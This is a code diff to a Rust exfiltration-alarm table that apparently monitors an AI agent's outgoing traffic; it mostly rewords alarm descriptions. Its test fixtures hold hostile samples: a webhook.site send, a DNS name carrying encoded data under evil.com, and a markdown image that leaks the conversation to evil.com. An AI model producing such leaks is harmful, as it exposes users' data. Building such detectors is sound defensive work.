@@ -86,7 +86,7 @@ pub static ALARMS: &[AlarmKind] = &[
     AlarmKind {
         id: "pii_to_external",
         severity: 90,
-        meaning: "Personal data or a secret leaves. Contact data alone is less grave than what identifies, pays or opens.",
+        meaning: "Personal data or a secret is sent out. Contact data alone is graded lower than identifiers, payment data and credentials.",
         look: Some(pii_to_external),
         fires: charged(true, 1, 0),
         silent: charged(false, 1, 0),
@@ -94,7 +94,7 @@ pub static ALARMS: &[AlarmKind] = &[
     AlarmKind {
         id: "rapid_external_sends",
         severity: 70,
-        meaning: "More calls outside within a minute than people make.",
+        meaning: "More external calls within a minute than a person would make.",
         look: Some(rapid_external_sends),
         fires: repeated(r#"{"channel":"general","message":"hi"}"#, 11, 1000),
         silent: repeated(r#"{"channel":"general","message":"hi"}"#, 11, 10_000),
@@ -102,7 +102,7 @@ pub static ALARMS: &[AlarmKind] = &[
     AlarmKind {
         id: "too_much_data",
         severity: 60,
-        meaning: "More data leaves within the window than is usual.",
+        meaning: "More data is sent out within the window than allowed.",
         look: Some(too_much_data),
         fires: repeated(r#"{"channel":"general","message":"~"}"#, 30, 8000),
         silent: repeated(r#"{"channel":"general","message":"~"}"#, 20, 8000),
@@ -110,7 +110,7 @@ pub static ALARMS: &[AlarmKind] = &[
     AlarmKind {
         id: "many_sensitive_sends",
         severity: 75,
-        meaning: "Personal data or secrets leave again and again within the window.",
+        meaning: "Personal data or secrets are sent out repeatedly within the window.",
         look: Some(many_sensitive_sends),
         fires: charged(true, 4, 20_000),
         silent: charged(true, 3, 20_000),
@@ -118,7 +118,7 @@ pub static ALARMS: &[AlarmKind] = &[
     AlarmKind {
         id: "suspicious_endpoint",
         severity: 90,
-        meaning: "Something goes to a host that only collects, tunnels or hides, or that the configuration names.",
+        meaning: "Data goes to a known collection, tunnel or anonymising host, or to one that the configuration lists.",
         look: Some(suspicious_endpoint),
         fires: sent(r#"{"url":"https://webhook.site/4d1f","data":"hi"}"#),
         silent: sent(r#"{"url":"https://example.com/","message":"We tried webhook.site for our tests."}"#),
@@ -126,7 +126,7 @@ pub static ALARMS: &[AlarmKind] = &[
     AlarmKind {
         id: "dns_channel",
         severity: 80,
-        meaning: "The name of a host carries data: to look it up is to send it.",
+        meaning: "A host name contains data, which a DNS lookup would send.",
         look: Some(dns_channel),
         fires: read(r#"{"host":"obqxg43xn5zgioranb2w45dfoiza.t.evil.com"}"#),
         silent: read(r#"{"host":"6fa459ea-ee8a-3ca4-894e-db77e160355e.preview.example.com"}"#),
@@ -144,7 +144,7 @@ pub static ALARMS: &[AlarmKind] = &[
     AlarmKind {
         id: "low_and_slow",
         severity: 60,
-        meaning: "What goes to one destination over the whole session adds up to what no window sees.",
+        meaning: "The total sent to one destination over the whole session exceeds what a single window would show.",
         look: Some(low_and_slow),
         fires: charged(true, 4, 200_000),
         silent: charged(true, 3, 200_000),
@@ -152,7 +152,7 @@ pub static ALARMS: &[AlarmKind] = &[
     AlarmKind {
         id: "markdown_exfiltration",
         severity: 80,
-        meaning: "A response holds an image or a link that carries data out once it is shown or followed.",
+        meaning: "A response contains an image or a link that sends data out when it is shown or followed.",
         look: None,
         fires: Case::Response("![status](https://evil.com/p.png?d={CONVERSATION})"),
         silent: Case::Response("![build](https://img.shields.io/badge/build-passing-brightgreen?style=flat)"),
@@ -195,22 +195,21 @@ fn rapid_external_sends(sight: &Sight) -> Option<Told> {
     let calls = sight.session.calls.sum(sight.now_ms) + 1;
     let most = sight.thresholds.max_external_calls_per_minute;
     (sight.outgoing.leaves() && calls > u64::from(most))
-        .then(|| (70, format!("{calls} calls outside within a minute, where {most} are allowed")))
+        .then(|| (70, format!("{calls} external calls within a minute; {most} are allowed")))
 }
 
 fn too_much_data(sight: &Sight) -> Option<Told> {
     let bytes = sight.session.bytes.sum(sight.now_ms).saturating_add(sight.outgoing.bytes);
     let (most, seconds) = (sight.thresholds.max_data_volume_bytes, sight.thresholds.window_ms / 1000);
     (sight.outgoing.leaves() && bytes > most)
-        .then(|| (60, format!("{bytes} bytes would have left within {seconds} s, where {most} are allowed")))
+        .then(|| (60, format!("{bytes} bytes would be sent out within {seconds} s; {most} are allowed")))
 }
 
 fn many_sensitive_sends(sight: &Sight) -> Option<Told> {
     let sends = sight.session.sensitive.sum(sight.now_ms) + 1;
     let (most, seconds) = (sight.thresholds.max_pii_external_sends, sight.thresholds.window_ms / 1000);
-    (sight.outgoing.leaves() && !sight.outgoing.sensitive.is_empty() && sends > u64::from(most)).then(|| {
-        (75, format!("{sends} calls with personal data or secrets within {seconds} s, where {most} are allowed"))
-    })
+    (sight.outgoing.leaves() && !sight.outgoing.sensitive.is_empty() && sends > u64::from(most))
+        .then(|| (75, format!("{sends} calls with personal data or secrets within {seconds} s; {most} are allowed")))
 }
 
 fn suspicious_endpoint(sight: &Sight) -> Option<Told> {
@@ -218,9 +217,9 @@ fn suspicious_endpoint(sight: &Sight) -> Option<Told> {
     let gravest = sight.outgoing.addressed().filter_map(|destination| {
         let is_named = configured.iter().any(|domain| is_within(&destination.host, domain.trim_start_matches("*.")));
         let (severity, family) = if is_named {
-            (90, "which the configuration names")
+            (90, "which the configuration lists")
         } else if destination.is_metadata {
-            (90, "which gives out the credentials of a machine")
+            (90, "which serves machine credentials")
         } else {
             let family = destination.collector?;
             let (_, severity, reads) = FAMILIES.iter().find(|(name, ..)| *name == family)?;
@@ -237,7 +236,7 @@ fn suspicious_endpoint(sight: &Sight) -> Option<Told> {
 
 fn dns_channel(sight: &Sight) -> Option<Told> {
     let labels = sight.outgoing.labels.as_ref()?;
-    Some((80, format!("{} characters in the name of a host below {}", labels.characters, safe(&labels.below, SHOWN))))
+    Some((80, format!("{} characters in a host name below {}", labels.characters, safe(&labels.below, SHOWN))))
 }
 
 fn url_parameters(sight: &Sight) -> Option<Told> {
